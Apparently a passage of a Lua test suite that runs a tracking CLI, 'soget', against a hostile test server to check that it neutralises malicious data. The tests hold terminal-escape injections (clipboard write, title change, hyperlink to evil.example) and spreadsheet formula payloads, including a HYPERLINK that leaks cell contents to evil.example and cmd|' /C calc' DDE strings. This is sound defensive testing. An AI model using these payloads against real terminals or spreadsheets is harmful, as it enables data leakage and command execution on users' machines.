-- soget against a hostile server (spec/cli/hostile.lua, a real loopback
-- HTTP server): terminal escapes in every string it sends, spreadsheet
-- formulas in bulk's CSV, lying page numbers, endless new events, an
-- unusable token.
local cli = require "cli.cli"
local cjson = require "cjson"
local hostile = require "cli.hostile"
local support = cli.support

local lit = hostile.literal

-- Everything a server string should never do to a terminal, JSON-escaped:
-- window title (OSC 0), clipboard write (OSC 52), hyperlink (OSC 8), clear
-- screen, alternate screen, bare CR, TAB, DEL, NUL, C1 CSI, bidi controls,
-- bytes that are not UTF-8.
local NASTY = table.concat {
  "\\u001b]0;pwned-title\\u0007",
  "\\u001b]52;c;ZWNobyBwd25lZA==\\u0007",
  "\\u001b]8;;http://evil.example/\\u001b\\\\link\\u001b]8;;\\u001b\\\\",
  "\\u001b[2J\\u001b[?1049h",
  "\\rFAKE\\t\\u007f\\u0000",
  "\\u009b31m",
  "\\u202eevil\\u202c\\u061c\\u2066\\u200f\\u2028",
  "CGMU\\u200b24\\u00ad36\\ufeff601\\udb40\\udc68\\u2800",
  "\255\254",
}
-- The same, as the decoded string a server sends.
local NASTY_RAW = cjson.decode('"' .. NASTY:gsub("\255\254", "") .. '"') .. "\255\254"
-- ... and as --json writes it: exact, but for the two bytes that are not
-- UTF-8, each U+FFFD (JSON text is UTF-8)
local NASTY_JSON = NASTY_RAW:gsub("\255\254$", "\239\191\189\239\191\189")

-- What the terminal must show instead.
local VISIBLE = {
  "\\x1b]0;pwned-title\\x07", "\\x1b]52;c;ZWNobyBwd25lZA==\\x07",
  "\\x1b]8;;http://evil.example/\\x1b\\link\\x1b]8;;\\x1b\\", "\\x1b[2J\\x1b[?1049h",
  "\\rFAKE\\t\\x7f\\x00", "\\u009b31m", "\\u202eevil\\u202c\\u061c\\u2066\\u200f\\u2028",
  "CGMU\\u200b24\\u00ad36\\ufeff601\\U000e0068\\u2800", "\\xff\\xfe",
}

-- Shorter, for error messages (which the module cuts at 256 bytes and at
-- a NUL).
local NASTY_SHORT = "\\u001b]52;c;ZWNobyBwd25lZA==\\u0007\\r\\u202e\\u009b\255\254"
local VISIBLE_SHORT = "\\x1b]52;c;ZWNobyBwd25lZA==\\x07\\r\\u202e\\u009b\\xff\\xfe"

-- Whether s is UTF-8 (no overlong forms, no surrogates, at most U+10FFFF),
-- on every runtime (5.1 and LuaJIT have no utf8 library).
local function is_utf8(s)
  local i, n = 1, #s
  while i <= n do
    local c = s:byte(i)
    local len, min = 1, 0
    if c >= 0xC2 and c <= 0xDF then len, min = 2, 0x80
    elseif c >= 0xE0 and c <= 0xEF then len, min = 3, 0x800
    elseif c >= 0xF0 and c <= 0xF4 then len, min = 4, 0x10000
    elseif c >= 0x80 then return false end
    if len > 1 then
      if i + len - 1 > n then return false end
      local v = c % (2 ^ (7 - len))
      for k = 1, len - 1 do
        local b = s:byte(i + k)
        if b < 0x80 or b > 0xBF then return false end
        v = v * 64 + b % 64
      end
      if v < min or v > 0x10FFFF or (v >= 0xD800 and v <= 0xDFFF) then return false end
    end
    i = i + len
  end
  return true
end

-- Fails when text holds anything a terminal would act on.
local function assert_printable(text, what)
  local i = text:gsub("\n", ""):find("%c")
  assert.is_nil(i, what .. ": a control character at " .. tostring(i))
  assert.truthy(is_utf8(text), what .. ": not UTF-8")
  for _, p in ipairs { "\194[\128-\159]", "\226\128[\142\143\168\169\170-\174]", "\226\129[\166-\169]", "\216\156",
                       "\226\128[\139-\141]", "\194\173", "\239\187\191", "\243\160", "\226\160\128" } do
    assert.is_nil(text:find(p), what .. ": an invisible control character")
  end
end

local function assert_shows(text, what, list)
  for _, v in ipairs(list or VISIBLE) do
    assert.truthy(text:find(v, 1, true), what .. " does not show " .. v .. " in:\n" .. text)
  end
end

-- The sandbox's CGMU2436601 with NASTY after every string value.
local function nasty_unit()
  local body = support.popen_read("curl -sS --max-time 10 " .. cli.q(support.http
    .. "/_control/units?reference=CGMU2436601"))
  local item = assert(body:match('^{"total":1,"items":%[(.*)%]}$'), body)
  return (item:gsub('(":)"([^"\\]*)"', function(pre, v) return pre .. '"' .. v .. NASTY .. '"' end))
end

local TOKEN_BODY = '{"access_token":"hostile-token","expires_in":3600,"token_type":"Bearer"}'

describe("soget against a hostile server", function()
  local srv, env

  setup(function()
    srv = hostile.start()
    env = { SOGET_BASE_URL = srv.url .. "/api", SOGET_TOKEN_URL = srv.url .. "/token" }
  end)
  teardown(function() if srv then srv:stop() end end)

  -- Serves pages[offset] (JSON text; offset as a string) for every API
  -- request, a token for every token request.
  local function serve_pages(pages)
    local t = {}
    for k, v in pairs(pages) do t[#t + 1] = "[" .. lit(k) .. "] = " .. lit(v) end
    srv:handle("local PAGES, TOKEN = {" .. table.concat(t, ", ") .. "}, " .. lit(TOKEN_BODY) .. "\n"
      .. "return function(req)\n"
      .. "  if req.path == '/token' then return 200, TOKEN end\n"
      .. "  return 200, PAGES[req.args.offset or '0']\n"
      .. "end\n")
  end

  -- Serves the page (JSON text) for every API request, a token for every
  -- token request.
  local function serve_page(page)
    srv:handle("local PAGE, TOKEN = " .. lit(page) .. ", " .. lit(TOKEN_BODY) .. "\n"
      .. "return function(req)\n"
      .. "  if req.path == '/token' then return 200, TOKEN end\n"
      .. "  return 200, PAGE\n"
      .. "end\n")
  end

  it("shows a server's long runs of spaces without stalling (no pattern quadratic in them)", function()
    -- a run of spaces inside a field: "%s+$" on each line took minutes
    -- (17 s for 40,000 spaces, growing with the square); bounded by the
    -- runs' own timeout, far above what a linear pass takes
    local pad = "X" .. (" "):rep(300000) .. "Y"
    serve_page('{"total":1,"returned":1,"first":0,"items":[{"reference":"CGMU' .. pad
      .. '","pswId":"CNI0000000001","events":[{"eventType":"DIS' .. pad
      .. '","eventDate":"2020-05-20T03:27:41+02:00"}]}]}')
    for _, argv in ipairs { { "find", "CGMU" }, { "track", "CGMU", "--prefix" } } do
      local r = cli.run(argv, { env = env, timeout = 60 })
      assert.are.equal(0, r.code, table.concat(argv, " ") .. ": " .. r.err:sub(1, 300))
      assert.truthy(r.out:find("CGMUX" .. (" "):rep(300000) .. "Y", 1, true), table.concat(argv, " "))
    end
    -- and in what bulk reads, before any request
    local r = cli.run({ "bulk", "--column", "1" }, { env = env, timeout = 60,
      stdin = "reference\nCGMU" .. (" "):rep(300000) .. "X\n" })
    assert.are_not.equal(124, r.code, "bulk stalled on its input")
    assert.truthy(r.code == 0 or r.code == 2 or r.code == 1 or r.code == 6, r.code .. ": " .. r.err:sub(1, 300))
  end)

  it("track's hints can be pasted back for a reference or S)ONE id that begins with '-'", function()
    local t = {}
    for i = 1, 3 do t[i] = ('{"reference":"-AB%02d","pswId":"-CN%02d"}'):format(i, i) end
    serve_page('{"total":3,"returned":3,"first":0,"items":[' .. table.concat(t, ",") .. ']}')
    for _, c in ipairs {
      { { "track", "--prefix", "--max", "1", "--", "-AB" }, "list them all with: soget (find %-%- %-AB)\n" },
      { { "track", "--prefix", "--max", "1", "--spi=-CN" }, "list them all with: soget (find %-%-spi=%-CN)\n" },
    } do
      local r = cli.run(c[1], { env = env })
      local hint = r.out:match(c[2])
      assert.truthy(hint, r.out .. r.err)
      local argv = {}
      for w in hint:gmatch("%S+") do argv[#argv + 1] = w end
      local all = cli.run(argv, { env = env })
      assert.are.equal(0, all.code, hint .. ": " .. all.err)
      assert.are.equal(3, #cli.lines(all.out), all.out)
    end
  end)

  it("says a page it cannot write as JSON is an unusable answer (exit 6), not a bug", function()
    -- an array outside the schema with a million nulls first: decoded
    -- (nulls removed), too sparse for soget.encode to write
    serve_page('{"total":1,"returned":1,"first":0,"items":[{"reference":"CGMU2436601",'
      .. '"pswId":"CNI0000063978","x":[' .. ("null,"):rep(1048576) .. '1]}]}')
    local r = cli.run({ "track", "CGMU2436601", "--json" }, { env = env, timeout = 60 })
    assert.are.equal(6, r.code, r.err:sub(1, 400))
    assert.truthy(r.err:find("^soget: the server's answer cannot be written as JSON: "), r.err:sub(1, 400))
    assert.is_nil(r.err:find("traceback", 1, true), r.err:sub(1, 400))
    assert.is_nil(r.err:find("internal error", 1, true), r.err:sub(1, 400))
  end)

  it("find lists every unit with an empty pswId, which names no unit", function()
    local t = {}
    for i = 1, 10 do t[i] = ('{"reference":"ABCU%07d","pswId":""}'):format(i) end
    serve_page('{"total":10,"returned":10,"first":0,"items":[' .. table.concat(t, ",") .. ']}')
    local r = cli.run({ "find", "ABCU", "--page-size", "10" }, { env = env })
    assert.are.equal(0, r.code, r.err)
    assert.are.equal(10, #cli.lines(r.out))
    -- passages of one container without an id (null, empty): each is a
    -- unit of its own, not the first one sent again (find listed one, then
    -- blamed the server for units sent again in place of others)
    serve_page('{"total":3,"returned":3,"first":0,"items":['
      .. '{"reference":"DUPU1234565","pswId":null,"huLocation":{"place":"FRLEH"}},'
      .. '{"reference":"DUPU1234565","huLocation":{"place":"FRMRS"}},'
      .. '{"reference":"DUPU1234565","pswId":"","huLocation":{"place":"FRDKK"}}]}')
    for _, argv in ipairs { { "find", "DUPU" }, { "track", "--prefix", "DUPU" } } do
      r = cli.run(argv, { env = env })
      assert.are.equal(0, r.code, argv[1] .. ": " .. r.err)
      for _, place in ipairs { "FRLEH", "FRMRS", "FRDKK" } do
        assert.truthy(r.out:find(place, 1, true), argv[1] .. ": " .. r.out)
      end
    end
  end)

  it("track refuses a page of more passages than it asked for, its hint within --max's range", function()
    -- a page of 1,500 passages: the hint said --max 1500, which --max
    -- refuses; such a page (the lookup asks for 10) is now refused whole,
    -- and an exact lookup's 50 pages of 10 stay within --max's 1000
    local t = {}
    for i = 1, 1500 do t[i] = ('{"reference":"CGMU2436601","pswId":"CNI%010d"}'):format(i) end
    serve_page('{"total":1500,"returned":1500,"first":0,"items":[' .. table.concat(t, ",") .. ']}')
    local r = cli.run({ "track", "CGMU2436601" }, { env = env })
    assert.are.equal(6, r.code, r.err)
    assert.truthy(r.err:find("items holds more units than the 10 the request asked for", 1, true),
      r.err)
    assert.are.equal("", r.out)
  end)

  it("watch --json credits an event to its unit whatever the event's own members say", function()
    -- members reference and pswId in an event (outside the schema) made a
    -- second key of those names, which JSON readers take last
    serve_page('{"total":1,"returned":1,"first":0,"items":[{"reference":"CGMU2436601",'
      .. '"pswId":"CNI0000063978","events":[{"eventType":"DIS","eventDate":"2020-05-20T03:27:41+02:00",'
      .. '"reference":"EVIL0000001","pswId":"CNI6666666666","other":1}]}]}')
    local r = cli.run({ "watch", "CGMU2436601", "--count", "1", "--json" }, { env = env })
    assert.are.equal(0, r.code, r.err)
    local lines = cli.lines(r.out)
    assert.are.equal(1, #lines)
    assert.are.equal('{"reference":"CGMU2436601","pswId":"CNI0000063978","eventType":"DIS",'
      .. '"eventDate":"2020-05-20T03:27:41+02:00","other":1}', lines[1])
  end)

  it("bulk's CSV neutralises cells a spreadsheet would run as formulas", function()
    local unit = cjson.encode {
      reference = '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      pswId = "+1+cmd|' /C calc'!A0", freightFamily = "-2+3", sizeType = "@SUM(1+1)*cmd|' /C calc'!A0",
      huLocation = { place = "\tTAB", location = "\r=1+1" },
      events = { { eventType = " =1+1", eventDate = "2020-05-14T09:12:00+02:00" } },
    }
    serve_page('{"total":1,"returned":1,"first":0,"items":[' .. unit .. ']}')
    -- (--prefix: the server's unit is not named as the lookups are)
    local r = cli.run({ "bulk", "--prefix", "-" }, { env = env, stdin = "=1+1\n-CMD\nCGMU2436601\n" })
    assert.are.equal(0, r.code, r.err)
    local lines = cli.lines(r.out)
    assert.are.equal(4, #lines)
    for i = 2, 4 do
      local f = cli.csv(lines[i])
      assert.are.same({ "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0",
        "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "\\tTAB", "\\r=1+1", "' =1+1" }, { f[4], f[5], f[6], f[7],
        f[8], f[9], f[10] }, lines[i])
      -- every neutralised cell is quoted
      assert.truthy(lines[i]:find('"\'=HYPERLINK(', 1, true), lines[i])
    end
    assert.are.equal("'=1+1", cli.csv(lines[2])[1])
    assert.are.equal("'-CMD", cli.csv(lines[3])[1])
    assert.are.equal("CGMU2436601", cli.csv(lines[4])[1])
    assert.are.equal("1", cli.csv(lines[4])[3])   -- numbers stay numbers
    -- JSON lines are data for programs: exact
    local j = cli.run({ "bulk", "--prefix", "-", "--json" }, { env = env, stdin = "=1+1\n" })
    local rec = cjson.decode(j.out)
    assert.are.equal("=1+1", rec.input)
    assert.are.equal("+1+cmd|' /C calc'!A0", rec.items[1].pswId)
  end)

  describe("find's walk", function()
    -- A unit per request whatever the page size, and a total of a million:
    -- followed, one request per unit, a million requests.
    local LYING = [[
return function(req)
  if req.path == '/token' then
    return 200, '{"access_token":"t","expires_in":3600,"token_type":"Bearer"}'
  end
  local offset = tonumber(req.args.offset) or 0
  return 200, string.format('{"total":1000000,"returned":1,"first":%d,"items":[{"reference":'
    .. '"MSCU%07d","pswId":"CNI%010d","events":[]}]}', offset, offset, offset)
end
]]

    it("stops at a page that holds fewer units than asked for before its total", function()
      srv:handle(LYING)
      local r = cli.run({ "find", "MSCU" }, { env = env, timeout = 20 })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal(1, #cli.lines(r.out))
      assert.are.equal("soget: stopped after 1 unit: the server's page at offset 0 holds 1 unit of "
        .. "the 10 asked for, before the total of 1000000 it announces\n", r.err)
      assert.are.equal(1, #srv:requests() - 1)   -- and the token request
      -- with --page-size 1 the pages are whole: --limit bounds the walk
      srv:handle(LYING)
      r = cli.run({ "find", "MSCU", "--page-size", "1", "--limit", "5" }, { env = env, timeout = 20 })
      assert.are.equal(0, r.code, r.err)
      assert.are.equal(5, #cli.lines(r.out))
      assert.are.equal(5, #srv:requests() - 1)
    end)

    it("stops at a page that brings no unit not already listed", function()
      -- the sandbox's stuck pages: the first page's units at every offset
      support.reset()
      local r = cli.run({ "find", "MSCU" }, { env = { SOGET_BASE_URL =
        support.fault_base("inconsistent:mode=stuck:id=" .. support.uid("stuck")) }, timeout = 20 })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal(10, #cli.lines(r.out))
      assert.are.equal("soget: stopped after 10 units: the server's page at offset 10 brings no unit "
        .. "not already listed\n", r.err)
      assert.are.equal(2, support.stats().api_requests)
      -- pages that come back in turn (A, B, A, ...): the third brings nothing new
      srv:handle [[
return function(req)
  if req.path == '/token' then
    return 200, '{"access_token":"t","expires_in":3600,"token_type":"Bearer"}'
  end
  local offset = tonumber(req.args.offset) or 0
  local k = (offset / 2) % 2
  return 200, string.format('{"total":1000,"returned":2,"first":%d,"items":[{"reference":"MSCU%d",'
    .. '"pswId":"A%d","events":[]},{"reference":"MSCU%d","pswId":"B%d","events":[]}]}',
    offset, k, k, k, k)
end
]]
      r = cli.run({ "find", "MSCU", "--page-size", "2" }, { env = env, timeout = 20 })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal(4, #cli.lines(r.out))
      assert.are.equal(3, #srv:requests() - 1)
      assert.truthy(r.err:find("at offset 4 brings no unit not already listed", 1, true), r.err)
    end)

    it("track --max walks by the same rules", function()
      local base = support.fault_base("inconsistent:mode=stuck:id=" .. support.uid("tstuck"))
      local r = cli.run({ "track", "MSCU", "--prefix", "--max", "30", "--json" },
        { env = { SOGET_BASE_URL = base } })
      assert.are.equal(6, r.code, r.err)
      local ids = {}
      for _, hu in ipairs(cjson.decode(r.out).items) do
        assert.is_nil(ids[hu.pswId], "listed twice: " .. hu.pswId)
        ids[hu.pswId] = true
      end
      assert.are.equal(10, #cjson.decode(r.out).items)
      assert.are.equal("soget: stopped after 10 units: the server's page at offset 10 brings no unit "
        .. "not already listed\n", r.err)
      srv:handle(LYING)
      r = cli.run({ "track", "MSCU", "--prefix", "--max", "30" }, { env = env })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal(1, #srv:requests() - 1)
      assert.truthy(r.out:find("^MSCU0000000"), r.out)
    end)

    it("stops at an empty page before the total it announces, first page or later", function()
      local r = cli.run({ "find", "MSCU" }, { env = { SOGET_BASE_URL =
        support.fault_base("inconsistent:mode=short:id=" .. support.uid("short")) } })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal("", r.out)
      assert.truthy(r.err:find("^soget: stopped after 0 units: the server's page at offset 0 holds "
        .. "no unit of the 10 asked for, before the total of %d+ it announces\n$"), r.err)
      -- a later page: 10 units, then nothing at offset 10 of 30
      local items = {}
      for i = 1, 10 do
        items[i] = string.format('{"reference":"MSCU%d","pswId":"P%d","events":[]}', i, i)
      end
      serve_pages { ['0'] = '{"total":30,"returned":10,"first":0,"items":['
        .. table.concat(items, ",") .. ']}', ['10'] = '{"total":30,"returned":0,"first":10,"items":[]}' }
      r = cli.run({ "find", "MSCU" }, { env = env, timeout = 20 })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal(10, #cli.lines(r.out))
      assert.are.equal("soget: stopped after 10 units: the server's page at offset 10 holds no unit "
        .. "of the 10 asked for, before the total of 30 it announces\n", r.err)
      -- nothing found is no stop
      r = cli.run({ "find", "ZZZZ" })
      assert.are.equal(1, r.code, r.err)
      -- track's exact lookup: no complete answer, never "not found"
      r = cli.run({ "track", "SOGU1000004" }, { env = { SOGET_BASE_URL =
        support.fault_base("inconsistent:mode=short:id=" .. support.uid("tshort")) } })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal("", r.out)
      assert.truthy(r.err:find("the listing's pages do not add up (an empty page below the total "
        .. "announced, page at offset 0)", 1, true), r.err)
      serve_pages { ['0'] = '{"total":30,"returned":10,"first":0,"items":['
        .. table.concat(items, ","):gsub("MSCU%d+", "MSCU1") .. ']}',
        ['10'] = '{"total":30,"returned":0,"first":10,"items":[]}' }
      r = cli.run({ "track", "MSCU1" }, { env = env, timeout = 20 })
      assert.are.equal(6, r.code, r.err)
      assert.truthy(r.err:find("page at offset 10)", 1, true), r.err)
    end)

    it("says so when the pager stops on inconsistent numbers, or a total grows", function()
      local r = cli.run({ "find", "MSCU" }, { env = { SOGET_BASE_URL =
        support.fault_base("inconsistent:mode=first:id=" .. support.uid("first")) } })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal(10, #cli.lines(r.out))
      assert.are.equal("soget: stopped after 10 units: the server's pages are inconsistent "
        .. "(first is not the offset asked for)\n", r.err)
      -- a total that grows on every request: every unit once, no request
      -- past the data, and the last page (short of its total) is reported
      local c = support.client()
      local total = assert(c:handling_units { reference = "MSCU", limit = 1 }).total
      c:close()
      support.reset()
      r = cli.run({ "find", "MSCU" }, { env = { SOGET_BASE_URL =
        support.fault_base("inconsistent:mode=total-grows:id=" .. support.uid("grows")) } })
      assert.are.equal(6, r.code, r.err)
      assert.are.equal(total, #cli.lines(r.out))
      assert.are.equal(math.ceil(total / 10), support.stats().api_requests)
      assert.truthy(r.err:find("^soget: stopped after " .. total .. " units: the server's page at offset "
        .. (math.ceil(total / 10) - 1) * 10 .. " holds "), r.err)
    end)

    it("says so when pages sent units again in place of others, read to the end", function()
      -- every page begins with the listing's first unit, in place of one of
      -- its own: a walk to the end lists fewer different units than the total
      local c = support.client()
      local total = assert(c:handling_units { reference = "MSCU", limit = 1 }).total
      c:close()
      local r = cli.run({ "find", "MSCU" }, { env = { SOGET_BASE_URL =
        support.fault_base("repeat-unit") } })
      assert.are.equal(6, r.code, r.err)
      local n = #cli.lines(r.out)
      assert.truthy(n < total, n)
      assert.are.equal(("soget: stopped after %d units: the server's pages hold %d different "
        .. "units where the total they announce is %d (units sent again in place of others)\n")
        :format(n, n, total), r.err)
      -- the same for a search, and for a document of bulk --documents
      local origin, path = os.getenv("SOGET_SEARCH_BASE_URL"):match("^(https?://[^/]+)(/.*)$")
      r = cli.run({ "search", "--document", "3714238101" }, { env = {
        SOGET_SEARCH_BASE_URL = origin .. "/_fault/repeat-unit" .. path } })
      assert.are.equal(6, r.code, r.err)
      assert.truthy(r.err:find("where the total they announce is 25", 1, true), r.err)
      -- a --limit below what came is no such stop
      r = cli.run({ "find", "MSCU", "--limit", "30" }, { env = { SOGET_BASE_URL =
        support.fault_base("repeat-unit") } })
      assert.are.equal(0, r.code, r.err)
      assert.are.equal(30, #cli.lines(r.out))
    end)
  end)

  it("watch remembers the events of its last two polls only", function()
    -- poll 1: e1 e2; 2: e2; 3: e1 e2 (e1 was away one poll: not new);
    -- 4: e3; 5: e4; 6: e1 (away two polls: forgotten, printed again)
    srv:handle [[
local polls = { { 1, 2 }, { 2 }, { 1, 2 }, { 3 }, { 4 }, { 1 } }
return function(req)
  if req.path == '/token' then
    return 200, '{"access_token":"t","expires_in":3600,"token_type":"Bearer"}'
  end
  local events = {}
  for _, e in ipairs(polls[req.n] or {}) do
    events[#events + 1] = string.format('{"eventType":"E%d","eventDate":"2020-05-1%dT09:12:00+02:00"}', e, e)
  end
  return 200, '{"total":1,"returned":1,"first":0,"items":[{"reference":"CGMU2436601",'
    .. '"pswId":"CNI0000063978","events":[' .. table.concat(events, ",") .. ']}]}'
end
]]
    local r = cli.run({ "watch", "CGMU2436601", "--every", "0.1", "--count", "6", "--json" }, { env = env })
    assert.are.equal(0, r.code, r.err)
    local seen = {}
    for _, l in ipairs(cli.lines(r.out)) do seen[#seen + 1] = cjson.decode(l).eventType end
    assert.are.same({ "E1", "E2", "E3", "E4", "E1" }, seen)
  end)

  it("watch tells events apart by every field, whatever bytes they hold, and dates by their instant", function()
    -- poll 1: X; 2: X, Y (Y's fields joined with a NUL are X's); 3: X, Y
    -- and Z, Z being X's date written with another offset: not new
    srv:handle [[
local X = '{"eventType":"GIR","eventDate":"2020-05-20T10:00:00Z\\u0000GOT"}'
local Y = '{"eventType":"GIR\\u00002020-05-20T10:00:00Z","eventDate":"GOT"}'
local D = '{"eventType":"DIS","eventDate":"2020-05-20T03:27:41+02:00"}'
local Z = '{"eventType":"DIS","eventDate":"2020-05-20T01:27:41Z"}'
local polls = { { X, D }, { X, Y, D }, { X, Y, Z } }
return function(req)
  if req.path == '/token' then
    return 200, '{"access_token":"t","expires_in":3600,"token_type":"Bearer"}'
  end
  return 200, '{"total":1,"returned":1,"first":0,"items":[{"reference":"CGMU2436601",'
    .. '"pswId":"CNI0000063978","events":[' .. table.concat(polls[req.n] or polls[3], ",") .. ']}]}'
end
]]
    local r = cli.run({ "watch", "CGMU2436601", "--every", "0.1", "--count", "3", "--json" }, { env = env })
    assert.are.equal(0, r.code, r.err)
    local seen = {}
    for _, l in ipairs(cli.lines(r.out)) do seen[#seen + 1] = cjson.decode(l).eventType end
    assert.are.same({ "DIS", "GIR", "GIR\0002020-05-20T10:00:00Z" }, seen)
  end)

  it("find and bulk show the latest dated event as the last one, not an undated one", function()
    srv:handle [[
return function(req)
  if req.path == '/token' then
    return 200, '{"access_token":"t","expires_in":3600,"token_type":"Bearer"}'
  end
  return 200, '{"total":1,"returned":1,"first":0,"items":[{"reference":"CGMU2436601",'
    .. '"pswId":"CNI0000063978","events":['
    .. '{"eventType":"MAN","eventDate":"2020-05-14T09:12:00+02:00"},{"eventType":"GOT"},'
    .. '{"eventType":"CUS","eventDate":"2020-05-21T08:30:12+02:00"},'
    .. '{"eventType":"LTR","eventDate":"2020-05-22T24:00:00Z"}]}]}'
end
]]
    local r = cli.run({ "find", "CGMU2436601" }, { env = env })
    assert.are.equal(0, r.code, r.err)
    assert.truthy(r.out:find("CUS%s+2020%-05%-21T08:30:12%+02:00"), r.out)
    r = cli.run({ "bulk", "-" }, { env = env, stdin = "CGMU2436601\n" })
    assert.are.equal(0, r.code, r.err)
    assert.truthy(r.out:find(",CUS,2020-05-21T08:30:12+02:00,", 1, true), r.out)
  end)

  it("never caches a token the module would refuse, one with a control character or over 64 KiB", function()
    for _, case in ipairs {
      -- refused by the module as it arrives: a size-limit error, nothing to cache
      { "5 MB", "string.rep('A', 5 * 1024 * 1024)", nil, "access_token is larger than 65536 bytes" },
      { "64 KiB + 1", "string.rep('b', 64 * 1024 + 1)", nil, "access_token is larger than 65536 bytes" },
      { "a tab", "'abc\\tdef'", "it has a control character" },
      { "an escape", "'abc\\27[2Jdef'" },   -- refused by the module at once
    } do
      srv:handle("local TOKEN = " .. case[2] .. "\n" .. [[
return function(req)
  if req.path == '/token' then
    return 200, '{"access_token":"' .. TOKEN:gsub('[%c]', function(c)
      return string.format('\\u%04x', c:byte()) end) .. '","expires_in":3600,"token_type":"Bearer"}'
  end
  return 200, '{"total":0,"returned":0,"first":0,"items":[]}'
end
]])
      local home = cli.tmpdir()
      local r = cli.run({ "-v", "--retries", "0", "track", "CGMU2436601" }, { env = env, home = home })
      -- the API may refuse a header that long: any failure but no crash
      assert.truthy(({ [1] = true, [4] = true, [5] = true, [6] = true })[r.code],
        case[1] .. ": exit " .. tostring(r.code) .. ": " .. r.err)
      local token_requests = 0
      for _, req in ipairs(srv:requests()) do
        if req.path == "/token" then token_requests = token_requests + 1 end
      end
      assert.truthy(token_requests >= 1, case[1] .. ": the token endpoint was not asked")
      local files = cli.sh("ls -A " .. cli.q(home .. "/cache/soget") .. " 2>/dev/null")
      cli.rm(home)
      assert.are.equal("", files, case[1] .. ": cached")
      assert_printable(r.err, case[1])
      if case[3] then
        assert.truthy(r.err:find("token cache: the new token is not kept: " .. case[3], 1, true), r.err)
      end
      if case[4] then assert.truthy(r.err:find(case[4], 1, true), r.err) end
    end
    -- and a good token is cached (so the above is no accident)
    serve_page('{"total":0,"returned":0,"first":0,"items":[]}')
    local home = cli.tmpdir()
    local r = cli.run({ "track", "CGMU2436601" }, { env = env, home = home })
    assert.are.equal(1, r.code, r.err)
    local files = cli.sh("ls -A " .. cli.q(home .. "/cache/soget"))
    cli.rm(home)
    assert.truthy(files:find("^token%-%x+\n$"), files)
  end)

  describe("terminal escapes", function()
    local page
    setup(function() page = '{"total":1,"returned":1,"first":0,"items":[' .. nasty_unit() .. ']}' end)

    it("track shows every server string made printable; --json stays exact", function()
      serve_page(page)
      -- (--prefix: the server's unit is not named as the lookup is)
      local r = cli.run({ "track", "CGMU2436601", "--prefix" }, { env = env })
      assert.are.equal(0, r.code, r.err)
      assert_printable(r.out, "track")
      assert_printable(r.err, "track's stderr")
      assert_shows(r.out, "track")
      assert.truthy(r.out:find("^CGMU2436601\\x1b]0;pwned%-title\\x07"), r.out)
      assert.truthy(r.out:find("\n  Now at        FRLEH\\x1b]0;", 1, true), r.out)
      local j = cli.run({ "track", "CGMU2436601", "--prefix", "--json" }, { env = env })
      assert.are.equal(0, j.code, j.err)
      local hu = cjson.decode(j.out).items[1]
      assert.are.equal("CGMU2436601" .. NASTY_JSON, hu.reference)
      assert.are.equal("MAN" .. NASTY_JSON, hu.events[1].eventType)
    end)

    it("find shows every line made printable", function()
      serve_page(page)
      local r = cli.run({ "find", "CGMU" }, { env = env })
      assert.are.equal(0, r.code, r.err)
      assert.are.equal(1, #cli.lines(r.out))
      assert_printable(r.out, "find")
      assert_shows(r.out, "find", { VISIBLE[1], VISIBLE[7], VISIBLE[8] })
      local j = cli.run({ "find", "CGMU", "--json" }, { env = env })
      assert.are.equal("CGMU2436601" .. NASTY_JSON, cjson.decode(j.out).reference)
    end)

    it("watch shows every event made printable", function()
      serve_page(page)
      local r = cli.run({ "watch", "CGMU2436601", "--prefix", "--every", "0.1", "--count", "1" },
        { env = env })
      assert.are.equal(0, r.code, r.err)
      assert.are.equal(5, #cli.lines(r.out))
      assert_printable(r.out, "watch")
      assert_shows(r.out, "watch", { VISIBLE[1], VISIBLE[3], VISIBLE[8] })
      local j = cli.run({ "watch", "CGMU2436601", "--prefix", "--every", "0.1", "--count", "1", "--json" },
        { env = env })
      assert.are.equal("MAN" .. NASTY_JSON, cjson.decode(cli.lines(j.out)[1]).eventType)
    end)

    it("bulk's CSV cells are printable; its JSON lines stay exact", function()
      serve_page(page)
      local r = cli.run({ "bulk", "--prefix", "-" }, { env = env, stdin = "CGMU2436601\n" })
      assert.are.equal(0, r.code, r.err)
      assert_printable(r.out, "bulk")
      assert_shows(r.out, "bulk", { VISIBLE[1], VISIBLE[8] })
      local j = cli.run({ "bulk", "--prefix", "-", "--json" }, { env = env, stdin = "CGMU2436601\n" })
      assert.are.equal("CGMU2436601" .. NASTY_JSON, cjson.decode(j.out).items[1].reference)
    end)

    it("search's lines and summary are printable; bulk --documents' too", function()
      serve_page(page)
      local senv = { SOGET_SEARCH_BASE_URL = srv.url .. "/search" }
      for k, v in pairs(env) do senv[k] = v end
      local r = cli.run({ "search", "--document", "HLCUEUR2002APIK9" }, { env = senv })
      assert.are.equal(0, r.code, r.err)
      assert.are.equal(1, #cli.lines(r.out))
      assert_printable(r.out, "search")
      assert_shows(r.out, "search", { VISIBLE[1], VISIBLE[7], VISIBLE[8] })
      -- the summary names the place the server sent
      assert_printable(r.err, "search's summary")
      assert.truthy(r.err:find("^soget: 1 unit: 0 containers, 1 other freight; now at FRLEH"
        .. "\\x1b]0;pwned%-title\\x07"), r.err)
      assert_shows(r.err, "search's summary", { VISIBLE[1], VISIBLE[7], VISIBLE[8] })
      local j = cli.run({ "search", "--document", "HLCUEUR2002APIK9", "--json" }, { env = senv })
      assert.are.equal("CGMU2436601" .. NASTY_JSON, cjson.decode(j.out).reference)
      local b = cli.run({ "bulk", "-", "--documents" }, { env = senv, stdin = "HLCUEUR2002APIK9\n" })
      assert.are.equal(0, b.code, b.err)
      assert_printable(b.out, "bulk --documents")
      assert_shows(b.out, "bulk --documents", { VISIBLE[1], VISIBLE[8] })
    end)

    it("shows bytes that are not UTF-8 as escapes and keeps the rest of UTF-8 as it is", function()
      -- check prints what it was given through the same function
      local input = "A\192\175\237\160\128\240\159\152\128\195\169\194\160\244\144\128\128\224\128\128\27"
      local r = cli.run { "check", input }
      assert.are.equal(1, r.code)
